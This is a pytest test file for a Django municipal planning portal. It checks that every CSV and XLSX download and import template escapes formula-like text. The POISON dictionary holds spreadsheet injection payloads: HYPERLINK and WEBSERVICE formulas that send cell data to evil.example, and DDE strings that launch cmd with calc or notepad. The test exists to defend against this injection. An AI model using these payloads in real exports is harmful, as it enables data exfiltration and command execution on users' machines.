"""No spreadsheet the portal produces runs a formula: every cell of every CSV and XLSX download
(open data, indicator CSV, import templates) is scanned after formula-like text has been put
into the approved data (OWASP CSV injection)."""

from __future__ import annotations

from decimal import Decimal

import pytest

from django.contrib.auth.models import AbstractUser
from django.test import Client

from plans.models import ActionIndicator, OpenDataPage
from tests.scenarios.monitoring import Monitoring
from tests.spreadsheet_cells import cells_of, formula_cells

pytestmark = pytest.mark.django_db

#: Texts a spreadsheet would run; each goes into one field of the approved data.
POISON = {
    "municipality": '=HYPERLINK("https://evil.example/?d="&A2,"Kadıköy")',
    "indicator": '=WEBSERVICE("https://evil.example/"&B2)',
    "unit": "@SUM(1+1)*cmd|' /C calc'!A0",
    "period": "-2+3+cmd|' /C calc'!A0",
    "action": "+cmd|' /C notepad'!A0",
    "evidence": "\t=1+1",
    "comment": '\r=HYPERLINK("https://evil.example")',
    "recommendation": "=1+1",
    "source": "@kaynak",
}


@pytest.fixture
def poisoned(monitoring: Monitoring) -> Monitoring:
    """The monitoring scenario with formula-like text in every text field of approved data, and
    a negative value."""
    municipality = monitoring.tree.kadikoy
    municipality.title = POISON["municipality"]
    municipality.save()
    indicator = monitoring.indicator
    indicator.title, indicator.unit = POISON["indicator"], POISON["unit"]
    indicator.save()
    period = monitoring.periods[0]
    period.name = POISON["period"]
    period.save()
    for action in monitoring.actions:
        action.title = POISON["action"]
        action.save()
    ActionIndicator.objects.create(page=monitoring.actions[0], indicator=indicator)
    approved = monitoring.assessments[0]
    for row in approved.action_rows.all():
        row.evidence = POISON["evidence"]
        row.board_comment = POISON["comment"]
        row.recommendation = POISON["recommendation"]
        row.save()
    for value in approved.indicator_values.all():
        value.source_note = POISON["source"]
        value.value = Decimal("-12.5") if value.disaggregation == "total" else value.value
        value.save()
    return monitoring


def public_downloads(monitoring: Monitoring) -> list[str]:
    """Every CSV and XLSX URL of the public site over the scenario."""
    urls = [f"{monitoring.indicator.url}csv/"]
    for root, municipality in (("/tr/acik-veri/", "belediye"), ("/en/open-data/", "municipality")):
        for scope in ("", f"{municipality}/kadikoy/"):
            for table in ("gosterge-degerleri", "eylem-durumlari"):
                urls += [f"{root}{scope}{table}/{fmt}/" for fmt in ("csv", "xlsx")]
    return urls


def assert_safe(cells: list[object], where: str) -> None:
    assert cells, where
    assert formula_cells(cells) == [], where


def test_no_public_download_holds_a_formula(
    client: Client, open_data: OpenDataPage, poisoned: Monitoring
) -> None:
    seen: list[object] = []
    for url in public_downloads(poisoned):
        response = client.get(url)
        assert response.status_code == 200, url
        cells = cells_of(response)
        assert_safe(cells, url)
        seen += cells

    # The poisoned text is there, behind the quote, so the scan has looked at it.
    for field, text in POISON.items():
        assert f"'{text}" in seen, field
    assert "-12.5" in seen  # a negative number stays a number


def test_import_templates_hold_no_formula(
    poisoned: Monitoring, kadikoy_reporter: AbstractUser
) -> None:
    client = Client(HTTP_HOST="localhost")
    client.force_login(kadikoy_reporter)
    base = f"/admin/izleme-verisi/{poisoned.plan.pk}/"
    query = f"?donem={poisoned.periods[0].pk}"
    seen: list[object] = []
    for path in ("sablon.xlsx", "sablon/eylem_durumlari.csv", "sablon/gosterge_degerleri.csv"):
        response = client.get(f"{base}{path}{query}")
        assert response.status_code == 200, path
        cells = cells_of(response)
        assert_safe(cells, path)
        seen += cells

    for field in ("indicator", "unit", "period", "action"):
        assert f"'{POISON[field]}" in seen, field
